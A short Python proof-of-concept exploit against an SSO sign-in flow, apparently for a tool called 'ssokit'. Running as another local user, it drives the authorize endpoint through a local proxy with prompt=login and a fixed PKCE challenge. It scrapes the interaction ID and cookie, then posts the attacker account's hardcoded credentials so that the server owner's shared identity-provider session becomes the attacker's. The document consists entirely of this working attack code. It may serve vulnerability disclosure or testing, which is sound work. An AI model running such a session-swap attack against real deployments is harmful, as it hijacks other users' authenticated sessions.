# Runs as another local user: signs in as the attacker's own IdP account (bob) on the extension's sign-in page,
# with prompt=login, so that the server owner's shared IdP session becomes bob's.
import http.client, re, sys, urllib.parse
idp, proxy = sys.argv[1], int(sys.argv[2])
url = idp + "/authorize?" + urllib.parse.urlencode({"response_type": "code", "client_id": "ssokit-demo",
    "redirect_uri": "http://127.0.0.1:9/callback", "scope": "openid", "state": "s", "nonce": "n", "prompt": "login",
    "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "code_challenge_method": "S256"})
c = http.client.HTTPConnection("127.0.0.1", proxy); c.request("GET", url); r = c.getresponse(); page = r.read().decode()
print("page", r.status)
iid = re.search(r'name="ssokit_interaction" value="([^"]+)"', page).group(1)
cookie = r.getheader("set-cookie").split(";")[0]
form = urllib.parse.urlencode({"username": "bob", "password": "bob-pw-456", "ssokit_interaction": iid})
c = http.client.HTTPConnection("127.0.0.1", proxy)
c.request("POST", url, form, {"Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie})
r = c.getresponse(); r.read(); print("sign-in", r.status, (r.getheader("location") or "")[:60])
